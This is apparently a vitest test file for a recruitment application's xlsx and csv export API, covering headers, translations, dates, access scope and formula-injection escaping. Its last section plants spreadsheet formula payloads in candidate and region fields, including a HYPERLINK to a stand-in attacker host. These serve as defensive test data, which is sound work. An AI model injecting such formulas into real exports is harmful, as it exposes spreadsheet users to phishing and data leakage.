import { clas, formatDate, formatDateTime, type Lang, resourcePaths } from '@rp/contract';
import { sql } from 'drizzle-orm';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { productText } from '../lib/product-text';
import { resourcesFor } from '../modules/index';
import { buildTestApp, type TestApp } from '../test/build-app';
import {
  makeCandidate,
  makeCompany,
  makeRegion,
  makeRequirement,
  makeSignedInUser,
  makeSite,
  seedIds,
} from '../test/factories';
import { exportColumns } from './export-columns';

/** The resource declarations (what these tests read of them does not depend on PAST_DUE_DAYS). */
const resources = resourcesFor({ pastDueDays: 7 });

let t: TestApp;
const regionNames = ['Norte, "alta"', 'Sur', 'Centro'];
beforeAll(async () => {
  t = await buildTestApp();
  for (const name of regionNames) await makeRegion(t, { name, area: 'Export' });
});
afterAll(async () => t?.close());

type Cell = ExcelJS.CellValue;

async function readXlsx(body: Buffer) {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(body as unknown as ArrayBuffer);
  const sheet = workbook.worksheets[0];
  if (!sheet) throw new Error('no worksheet');
  const rows: Cell[][] = [];
  sheet.eachRow((row) => {
    rows.push((row.values as Cell[]).slice(1));
  });
  return { sheet, rows };
}

const stamp = () => new Date().toISOString().slice(0, 10);

/** The header row a resource's export has in a language. */
function headersOf(path: string, lang: Lang = 'es') {
  const def = resources.find((r) => r.path === path);
  if (!def) throw new Error(`no resource ${path}`);
  return exportColumns(def).map((column) => productText(lang, column.header));
}

/** An xlsx row as csv writes it: every column, empty cells as ''. */
const asCsv = (row: Cell[], width: number) =>
  Array.from({ length: width }, (_, i) => (row[i] === undefined || row[i] === null ? '' : String(row[i])));

/** CSV text as rows of cells (quoted cells may hold commas, quotes and line breaks). */
function readCsv(body: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let isQuoted = false;
  const text = body.replace(/^\uFEFF/, '');
  for (let i = 0; i < text.length; i += 1) {
    const ch = text[i];
    if (isQuoted) {
      if (ch === '"' && text[i + 1] === '"') {
        cell += '"';
        i += 1;
      } else if (ch === '"') isQuoted = false;
      else cell += ch;
    } else if (ch === '"') isQuoted = true;
    else if (ch === ',') {
      row.push(cell);
      cell = '';
    } else if (ch === '\n') {
      rows.push([...row, cell]);
      row = [];
      cell = '';
    } else if (ch !== '\r') cell += ch;
  }
  if (cell || row.length) rows.push([...row, cell]);
  return rows;
}

describe('export (GET path export/)', () => {
  it('streams a real xlsx: translated header row, one row per listed row, a file name', async () => {
    const res = await t.request({
      method: 'GET',
      url: '/api/regions/export/?area=Export&ordering=name',
      token: t.adminToken,
    });
    expect(res.statusCode, res.body).toBe(200);
    expect(res.headers['content-type']).toBe(
      'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
    );
    expect(res.headers['content-disposition']).toBe(`attachment; filename="regions-${stamp()}.xlsx"`);
    const { sheet, rows } = await readXlsx(res.rawPayload);
    expect(sheet.name).toBe('regions');
    expect(rows[0]).toEqual(headersOf('regions'));
    expect(rows[0]).toEqual(['ID', 'Nombre', 'Área', 'Estatus', 'Creado', 'Actualizado']);
    const data = rows.slice(1);
    expect(data).toHaveLength(3);
    expect(data.map((r) => r[1])).toEqual([...regionNames].sort());
    expect(data.every((r) => r[3] === 'Sí')).toBe(true);
    expect(data.every((r) => typeof r[0] === 'number')).toBe(true);
    // the company's time zone, 24-hour (docs/decisions.md)
    expect(data.every((r) => /^\d{2}\/\d{2}\/\d{4} \d{2}:\d{2}$/.test(String(r[4])))).toBe(true);
  });

  it('writes csv with format=csv (header, quoted values, UTF-8 BOM)', async () => {
    const res = await t.request({
      method: 'GET',
      url: '/api/regions/export/?format=csv&area=Export&ordering=-name',
      token: t.adminToken,
    });
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(res.headers['content-disposition']).toBe(`attachment; filename="regions-${stamp()}.csv"`);
    expect(res.rawPayload.subarray(0, 3).equals(Buffer.from([0xef, 0xbb, 0xbf]))).toBe(true);
    const lines = res.body
      .replace(/^\uFEFF/, '')
      .trim()
      .split('\n');
    expect(lines[0]).toBe(headersOf('regions').join(','));
    expect(lines).toHaveLength(4);
    expect(lines[1]).toContain(',Sur,Export,Sí,');
    expect(lines[2]).toContain(',"Norte, ""alta""",Export,');
  });

  it('applies search and filters like the list, and answers 400 for a bad one', async () => {
    const res = await t.request({
      method: 'GET',
      url: '/api/regions/export/?search=sur',
      token: t.adminToken,
    });
    const { rows } = await readXlsx(res.rawPayload);
    expect(rows).toHaveLength(2);
    for (const query of ['ordering=nope', 'id=abc', 'format=csv&ordering=nope']) {
      const bad = await t.request({
        method: 'GET',
        url: `/api/regions/export/?${query}`,
        token: t.adminToken,
      });
      expect(bad.statusCode, query).toBe(400);
      expect(bad.headers['content-type'], query).toMatch(/^application\/json/);
      expect(bad.headers['content-disposition'], query).toBeUndefined();
    }
  });

  it('exports nested and computed values (requirements with items, days_open)', async () => {
    const requeriment = await makeRequirement(t);
    const res = await t.request({
      method: 'GET',
      url: `/api/requeriments/export/?id=${requeriment.id}`,
      token: t.adminToken,
    });
    expect(res.statusCode).toBe(200);
    const { rows } = await readXlsx(res.rawPayload);
    const headers = headersOf('requeriments');
    expect(rows[0]).toEqual(headers);
    const row = rows[1] ?? [];
    const at = (key: string) => row[headers.indexOf(productText('es', key))];
    expect(at('requirements.fields.code')).toBe(requeriment.code);
    expect(at('requirements.fields.days_open')).toBe(requeriment.days_open);
    expect(at('requirements.fields.company')).toBe(requeriment.company_name);
    expect(at('exports.fields.items')).toMatch(/^Operador /);
  });

  it('answers 401 without a token, 403 without the route, and keeps to the data scope', async () => {
    expect((await t.request({ method: 'GET', url: '/api/regions/export/' })).statusCode).toBe(401);
    const company = await makeCompany(t);
    const other = await makeCompany(t);
    const user = await makeSignedInUser(t, {
      routes: ['index', 'clients-companies'],
      companies: [company.id],
    });
    expect(
      (await t.request({ method: 'GET', url: '/api/candidates/export/', token: user.token })).statusCode,
    ).toBe(403);
    const res = await t.request({
      method: 'GET',
      url: '/api/companies/export/?format=csv',
      token: user.token,
    });
    const lines = res.body
      .replace(/^\uFEFF/, '')
      .trim()
      .split('\n');
    expect(lines).toHaveLength(2);
    expect(lines[1]?.startsWith(`${company.id},`)).toBe(true);
    expect(res.body).not.toContain(String(other.code));
  });

  it('exports every resource path as xlsx with translated headers, in each language', async () => {
    for (const lang of ['es', 'en'] as const) {
      for (const path of resourcePaths) {
        const res = await t.request({
          method: 'GET',
          url: `/api/${path}/export/`,
          token: t.adminToken,
          lang,
        });
        expect(res.statusCode, `${path}: ${res.body.slice(0, 200)}`).toBe(200);
        const { rows } = await readXlsx(res.rawPayload);
        const headers = headersOf(path, lang);
        expect(rows[0], path).toEqual(headers);
        // every header is a translation, never a key or a field name
        for (const header of headers) expect(header, `${path}: ${header}`).not.toMatch(/[._]/);
        expect(new Set(headers).size, `${path}: ${headers.join('|')}`).toBe(headers.length);
      }
    }
  });
});

describe('requirement and candidate exports, as people read them', () => {
  const exportOf = (path: string, query: string, lang: Lang, format = 'xlsx') =>
    t.request({
      method: 'GET',
      url: `/api/${path}/export/?${query}&format=${format}`,
      token: t.adminToken,
      lang,
    });

  it('requirements: translated headers and statuses, names not ids, day/month/year dates; csv the same', async () => {
    const ids = await seedIds(t);
    const company = await makeCompany(t, { name_es: 'Maquiladora Norte', name_en: 'North Assembly' });
    const site = await makeSite(t, { company: company.id, name: 'Planta Uno' });
    const requeriment = await makeRequirement(t, { company: company.id, site: site.id });
    const created = formatDateTime(String(requeriment.created_at), t.config.timeZone);
    const expected = {
      es: { company: 'Maquiladora Norte', status: 'Nuevo', category: 'Directo', pastDue: 'Sí' },
      en: { company: 'North Assembly', status: 'New', category: 'Direct', pastDue: 'Yes' },
    };
    for (const lang of ['es', 'en'] as const) {
      const { rows } = await readXlsx(
        (await exportOf('requeriments', `id=${requeriment.id}`, lang)).rawPayload,
      );
      const headers = rows[0] ?? [];
      expect(headers).toEqual(headersOf('requeriments', lang));
      for (const raw of ['company', 'site', 'request_by', 'category', 'status', 'requeriment_date'])
        expect(headers).not.toContain(raw);
      const row = rows[1] ?? [];
      const at = (key: string) => row[headers.indexOf(productText(lang, key))];
      expect(at('requirements.fields.company')).toBe(expected[lang].company);
      expect(at('requirements.fields.site')).toBe('Planta Uno');
      expect(at('requirements.fields.requeriment_date')).toBe('04/03/2026');
      expect(at('requirements.fields.status')).toBe(expected[lang].status);
      expect(at('requirements.fields.category')).toBe(expected[lang].category);
      expect(at('requirements.fields.past_due')).toBe(expected[lang].pastDue);
      expect(at('exports.fields.created_at')).toBe(created);
      expect(at('exports.fields.request_by')).toEqual(expect.any(String));
      expect(at('exports.fields.request_by')).not.toMatch(/^\d+$/);
      expect(at('exports.fields.items')).toMatch(lang === 'en' ? /^Operator$/ : /^Operador /);
      expect(row).not.toContain(company.id);
      expect(row).not.toContain(site.id);
      expect(row).not.toContain(ids.category.DIRECT);

      const csv = readCsv((await exportOf('requeriments', `id=${requeriment.id}`, lang, 'csv')).body);
      expect(csv[0]).toEqual(headers);
      expect(csv[1]).toEqual(asCsv(row, headers.length));
    }
    expect(headersOf('requeriments', 'es')).not.toEqual(headersOf('requeriments', 'en'));
  });

  it('candidates: gender, status and catalogs by their labels, dates day/month/year; csv the same', async () => {
    const ids = await seedIds(t);
    const candidate = await makeCandidate(t, {
      genre: 'Female',
      birthdate: '1990-07-15',
      scholar_level: ids.catalog(clas.scholarLevel),
      english_level: ids.catalog(clas.englishLevels),
      recruitment_source: ids.catalog(clas.recruitmentSource),
    });
    const names = { es: new Set<unknown>(), en: new Set<unknown>() };
    for (const lang of ['es', 'en'] as const) {
      const { rows } = await readXlsx((await exportOf('candidates', `id=${candidate.id}`, lang)).rawPayload);
      const headers = rows[0] ?? [];
      expect(headers).toEqual(headersOf('candidates', lang));
      for (const raw of ['genre', 'scholar_level', 'english_level', 'recruitment_source', 'birthdate'])
        expect(headers).not.toContain(raw);
      const row = rows[1] ?? [];
      const at = (key: string) => row[headers.indexOf(productText(lang, `candidates.fields.${key}`))];
      expect(at('full_name')).toBe(candidate.full_name);
      expect(at('genre')).toBe(lang === 'es' ? 'Femenino' : 'Female');
      expect(at('status')).toBe(productText(lang, 'candidates.statuses.Active'));
      expect(at('category')).toBe(lang === 'es' ? 'Directo' : 'Direct');
      expect(at('birthdate')).toBe('15/07/1990');
      expect(at('birthdate')).toBe(formatDate('1990-07-15'));
      expect(at('is_black_list')).toBe('No');
      for (const key of ['scholar_level', 'english_level', 'recruitment_source']) {
        expect(at(key), key).toEqual(expect.any(String));
        expect(at(key), key).not.toMatch(/^\d+$/);
        names[lang].add(at(key));
      }

      const csv = readCsv((await exportOf('candidates', `id=${candidate.id}`, lang, 'csv')).body);
      expect(csv[0]).toEqual(headers);
      expect(csv[1]).toEqual(asCsv(row, headers.length));
    }
    // the seeded catalogs have English names: the English export uses them
    expect([...names.en]).not.toEqual([...names.es]);
  });
});

describe('formula injection (issue 27 item 2): text that would start a formula is exported as text', () => {
  const formula = '=HYPERLINK("http://evil.example/?x","click")';

  it('candidates as csv and xlsx: a leading = + - @ tab CR or full-width ＝ gets a quote; numbers stay numbers', async () => {
    const candidate = await makeCandidate(t, {
      last_name: formula,
      address: '+1+1',
      colony: '-2+3',
      city: '@SUM(1+1)',
      state: 'Baja California = Norte',
    });
    // typed input is trimmed, so the leading tab, CR and the full-width sign are stored directly
    await t.database.db.execute(
      sql`update candidates set emergency_name = ${'\t=1+1'}, scholar_speciality = ${'\r=1+1'},
        employee_code = ${'＝1+1'} where id = ${candidate.id}`,
    );
    const expected = {
      full_name: `'${formula} López Juan`,
      address: "'+1+1",
      colony: "'-2+3",
      city: "'@SUM(1+1)",
      state: 'Baja California = Norte',
      emergency_name: "'\t=1+1",
      scholar_speciality: "'\r=1+1",
      employee_code: "'＝1+1",
    };
    for (const format of ['xlsx', 'csv'] as const) {
      const res = await t.request({
        method: 'GET',
        url: `/api/candidates/export/?id=${candidate.id}&format=${format}`,
        token: t.adminToken,
      });
      expect(res.statusCode, res.body.slice(0, 200)).toBe(200);
      const rows = format === 'xlsx' ? (await readXlsx(res.rawPayload)).rows : readCsv(res.body);
      const headers = rows[0] ?? [];
      const row = rows[1] ?? [];
      const at = (key: string) => row[headers.indexOf(productText('es', `candidates.fields.${key}`))];
      // an xlsx is XML, whose readers turn a CR into a line feed: compared with line ends alike
      const lineEnds = (value: unknown) => (typeof value === 'string' ? value.replace(/\r/g, '\n') : value);
      for (const [key, value] of Object.entries(expected))
        expect(lineEnds(at(key)), `${format} ${key}`).toBe(lineEnds(value));
      // the id is a number in the workbook (a number is data, never a formula)
      if (format === 'xlsx') expect(row[0]).toBe(candidate.id);
    }
  });

  it('the csv text itself quotes every neutralised cell that needs it and starts none with a formula character', async () => {
    await makeRegion(t, { name: '-1+1', area: 'Formula' });
    await makeRegion(t, { name: '@cmd', area: 'Formula' });
    const res = await t.request({
      method: 'GET',
      url: '/api/regions/export/?format=csv&area=Formula&ordering=name',
      token: t.adminToken,
    });
    const cells = readCsv(res.body).slice(1);
    expect(cells.map((r) => r[1])).toEqual(["'-1+1", "'@cmd"]);
    for (const cell of cells.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });
});
